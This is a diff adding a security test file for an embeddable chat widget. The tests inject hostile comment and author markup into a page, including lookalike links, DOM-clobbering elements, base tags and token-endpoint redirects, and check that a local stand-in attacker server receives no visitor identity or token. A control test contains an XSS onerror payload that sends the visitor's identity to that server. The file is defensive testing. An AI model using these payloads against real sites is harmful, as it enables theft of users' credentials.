@@ -1,0 +1,199 @@
+import { createServer, type IncomingMessage, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { readFileSync } from 'node:fs'
+import jwt from 'jsonwebtoken'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { launchBrowser } from '../e2e/browser.js'
+import { EVENT } from './kinescope.js'
+import { chatOn } from './page-facts.js'
+import { Site } from './site.js'
+import { startTokenServer, type TokenServer } from './token-server.js'
+
+/** Somebody's server that takes whatever it is sent, and remembers it. */
+class Recorder {
+  readonly seen: { method: string; url: string; headers: IncomingMessage['headers']; body: string }[] = []
+  readonly #server: Server = createServer((request, response) => {
+    let body = ''
+    request.on('data', (chunk) => (body += String(chunk)))
+    request.on('end', () => {
+      this.seen.push({ method: request.method!, url: request.url!, headers: request.headers, body })
+      const { origin = '*' } = request.headers
+      response.writeHead(200, {
+        'access-control-allow-origin': origin,
+        'access-control-allow-credentials': 'true',
+        'access-control-allow-headers': 'authorization, content-type',
+        'content-type': 'application/json',
+      })
+      response.end('{}')
+    })
+  })
+  async listen(): Promise<string> {
+    await new Promise<void>((resolve) => this.#server.listen(0, '127.0.0.2', resolve))
+    return `http://127.0.0.2:${(this.#server.address() as AddressInfo).port}`
+  }
+  async close(): Promise<void> {
+    this.#server.closeAllConnections()
+    await new Promise((resolve) => this.#server.close(resolve))
+  }
+}
+
+const recorder = new Recorder()
+let evil: string
+let site: Site
+let tokenServer: TokenServer
+let browser: Browser
+let page: Page
+/** The visitor's statement, and every token that was made of it. */
+let statement: string
+let tokens: string[]
+
+beforeAll(async () => {
+  evil = await recorder.listen()
+  site = await new Site().listen()
+  ;[tokenServer, browser] = await Promise.all([
+    startTokenServer({ CHAT_ALLOWED_ORIGINS: SITE(), CHAT_RATE_LIMIT: 'off' }),
+    launchBrowser(['--host-resolver-rules=MAP site.example 127.0.0.1']),
+  ])
+  site.pages.set('/purify.js', {
+    html: readFileSync(new URL('../../node_modules/dompurify/dist/purify.min.js', import.meta.url), 'utf8'),
+    headers: { 'content-type': 'text/javascript' },
+  })
+})
+afterAll(async () => {
+  await browser.close()
+  await Promise.all([site.close(), tokenServer.close(), recorder.close()])
+})
+beforeEach(() => {
+  recorder.seen.length = 0
+  tokens = []
+  statement = jwt.sign({ sub: 'user-1', name: 'Ann' }, tokenServer.secret, {
+    audience: 'kinescope-chat',
+    expiresIn: '1h',
+  })
+})
+afterEach(() => page.close())
+
+/** Not loopback in the browser's eyes, where an attribute would count. */
+const SITE = () => site.url('site.example')
+
+async function open(content: string, clean = true): Promise<void> {
+  site.pages.set('/', {
+    html: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Page</title><link rel="icon" href="data:,">
+      <script src="/purify.js"></script></head><body>
+      <section class="comments"></section>
+      <script>{
+        const content = ${JSON.stringify(content).replaceAll('<', '\\u003c')}
+        document.querySelector('.comments').innerHTML = ${clean} ? DOMPurify.sanitize(content, { SANITIZE_DOM: false, CUSTOM_ELEMENT_HANDLING: { tagNameCheck: /^kinescope-chat$/, attributeNameCheck: /^(event-id|language|label|loading|refresh|help|preview|chat-origin)$/ } }) : content
+      }</script>
+      <main><kinescope-chat event-id="${EVENT}"></kinescope-chat></main>
+      <script type="module" src="${tokenServer.server.url}/kinescope-chat.js" data-identity="${statement}" data-upgrade="main" data-chat-origin="${tokenServer.chatOrigin}"></script>
+      </body></html>`,
+  })
+  page = await browser.newPage()
+  page.on('response', (response) => {
+    if (response.url().endsWith('/token') && response.request().method() === 'POST')
+      void response.json().then(
+        ({ token }: { token?: string }) => token && tokens.push(token),
+        () => {},
+      )
+  })
+  await page.goto(SITE())
+}
+
+/** What came to the attacker's server that names the visitor. An image that loads from there is the page's own affair. */
+const leaks = () =>
+  recorder.seen.filter((request) => {
+    const all = JSON.stringify(request)
+    return (
+      [statement, ...tokens].some((secret) => all.includes(secret) || all.includes(secret.split('.')[1]!)) ||
+      request.headers.authorization ||
+      request.method === 'POST'
+    )
+  })
+
+const settings = () =>
+  `data-token-url="${evil}/token" data-chat-origin="${evil}" data-identity="x" data-upgrade="body" data-signin-url="${evil}" data-credentials="include" data-token="x"`
+const NAMES = [
+  'currentScript',
+  'scripts',
+  'baseURI',
+  'documentElement',
+  'defaultView',
+  'head',
+  'body',
+  'readyState',
+  'location',
+  'KinescopeChat',
+  'customElements',
+  'querySelectorAll',
+  'addEventListener',
+  'hidden',
+  'URL',
+  'activeElement',
+  'adoptedStyleSheets',
+]
+
+const CONTENT: Record<string, () => string> = {
+  'a comment with a marked link to their page': () =>
+    `<a href="${evil}/chat/${EVENT}#kinescope-chat">Chat</a>`,
+  'a comment with a marked link to the real chat, out of scope': () =>
+    `<a href="https://kinescope.io/chat/${EVENT}#kinescope-chat">Chat</a>`,
+  'a comment whose link is dressed up': () =>
+    [
+      `${evil}/?https://kinescope.io/chat/x#kinescope-chat`,
+      `https://kinescope.io@${evil.slice(7)}/chat/x#kinescope-chat`,
+      `${evil}\\@kinescope.io/chat/x#kinescope-chat`,
+    ]
+      .map((href) => `<a href="${href}">Chat</a>`)
+      .join(''),
+  'an author’s div with every setting': () => `<div data-kinescope-chat="${EVENT}" ${settings()}>x</div>`,
+  'an author’s div whose stream is an address': () =>
+    [`${evil}/chat/x`, `//${evil.slice(7)}/x`, `../../${evil}`, `x?token-url=${evil}`, `..%2f..%2f${evil}`]
+      .map((id) => `<div data-kinescope-chat="${id}"></div>`)
+      .join(''),
+  'an author’s tag with a chat origin': () =>
+    `<kinescope-chat event-id="${EVENT}" chat-origin="${evil}"></kinescope-chat><kinescope-chat event-id="${EVENT}" CHAT-ORIGIN=" '${evil}' "></kinescope-chat>`,
+  'an author’s tag that asks another endpoint for tokens': () =>
+    `<kinescope-chat event-id="${EVENT}" token-url="${evil}/token" identity=""></kinescope-chat>`,
+  ...Object.fromEntries(
+    ['img', 'form', 'object', 'embed', 'a', 'iframe', 'script'].map((tag) => [
+      `an author’s <${tag}> of every name`,
+      () =>
+        NAMES.map(
+          (name) =>
+            `<${tag} name="${name}" id="${name}" ${settings()} ${tag === 'object' ? 'data' : tag === 'a' ? 'href' : 'src'}="${evil}/kinescope-chat.js" ${tag === 'script' ? 'type="text/plain"' : ''}></${tag}>`,
+        ).join(''),
+    ]),
+  ),
+  'a base element': () => `<base href="${evil}/">`,
+}
+
+describe('what a commenter or an author writes', () => {
+  for (const [what, content] of Object.entries(CONTENT))
+    for (const clean of [true, false])
+      it(`takes neither the visitor’s statement nor a token elsewhere, ${clean ? 'cleaned by DOMPurify with its guard against names off' : 'as it is'}: ${what}`, async () => {
+        await open(content(), clean)
+        const { state } = await chatOn(page)
+        await page.waitForFunction(() =>
+          [...document.getElementsByTagName('kinescope-chat')].every(
+            ({ state }) => !['idle', 'loading'].includes(state),
+          ),
+        )
+        expect(
+          leaks().filter(
+            ({ url, headers }) =>
+              !(what.includes('another endpoint') && !headers.authorization && url === '/token'),
+          ),
+        ).toEqual([])
+        expect(state === 'ready' || what.includes('another') || what.includes('address')).toBe(true)
+      })
+
+  it('would be seen to leak: the control', async () => {
+    await open(
+      `<img src=x onerror="fetch('${evil}/', { method: 'POST', headers: { authorization: document.scripts[document.scripts.length - 1].dataset.identity } })">`,
+      false,
+    )
+    await expect.poll(() => leaks().some(({ headers }) => headers.authorization === statement)).toBe(true)
+  })
+})
